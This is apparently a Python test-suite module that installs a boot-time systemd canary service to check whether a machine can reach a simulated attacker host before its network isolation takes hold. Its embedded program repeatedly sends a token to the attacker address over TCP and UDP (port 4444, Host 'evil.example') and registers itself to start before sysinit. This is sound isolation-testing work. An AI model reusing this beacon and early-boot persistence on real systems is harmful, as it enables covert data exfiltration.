"""A unit that hammers the attacker as the agent's account, from the first moment of a boot on, before there is a network."""

from __future__ import annotations

import json
import os
from typing import Any

import world
from suite import Agent

_PROGRAM = r"""
import json, os, socket, time
TOKEN, ADDRESSES = @TOKEN@, @ADDRESSES@
tries = came = 0
end = time.monotonic() + @SECONDS@
while time.monotonic() < end:
    for address in ADDRESSES:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        for kind, port in ((socket.SOCK_STREAM, 4444), (socket.SOCK_STREAM, 80), (socket.SOCK_DGRAM, 53), (socket.SOCK_DGRAM, 4444)):
            tries += 1
            try:
                with socket.socket(family, kind) as there:
                    there.settimeout(0.2)
                    there.connect((address, port))
                    there.sendall(("GET /" + TOKEN + " HTTP/1.1\r\nHost: evil.example\r\n\r\n").encode())
                    came += b"INTERNET" in there.recv(1000)
            except OSError:
                pass
    with open("/var/lib/canary/new", "w") as out:
        json.dump({"tries": tries, "came": came, "boot": open("/proc/sys/kernel/random/boot_id").read().strip()}, out)
    os.replace("/var/lib/canary/new", "/var/lib/canary/told.json")
    time.sleep(0.005)
"""
_UNIT = """[Unit]
DefaultDependencies=no
After=local-fs.target
Before=sysinit.target
[Service]
Type=simple
User=pixel
ExecStart=/usr/bin/python3 /opt/canary.py
[Install]
WantedBy=sysinit.target
"""


def plant(agent: Agent, seconds: float = 25.0) -> str:
    """For the next boot; the answer is its token."""
    token = f"pxcanary{os.urandom(4).hex()}"
    program = _PROGRAM.replace("@TOKEN@", repr(token)).replace("@SECONDS@", str(seconds))
    program = program.replace("@ADDRESSES@", repr([world.v4(world.ATTACKER), world.v6(world.ATTACKER)]))
    box = agent.box
    box.write("/opt/canary.py", program)
    box.write("/etc/systemd/system/canary.service", _UNIT)
    box.run("mkdir -p /var/lib/canary && rm -f /var/lib/canary/* && chown 1000:1000 /var/lib/canary && systemctl daemon-reload")
    box.run("systemctl -q enable canary.service && sync")
    return token


def told(agent: Agent) -> dict[str, Any]:
    """How often it has tried by now, and how often somebody answered."""
    return dict(json.loads(agent.box.run("cat /var/lib/canary/told.json")))


def remove(agent: Agent) -> None:
    agent.box.run("systemctl -q disable --now canary.service; rm -f /etc/systemd/system/canary.service /opt/canary.py")
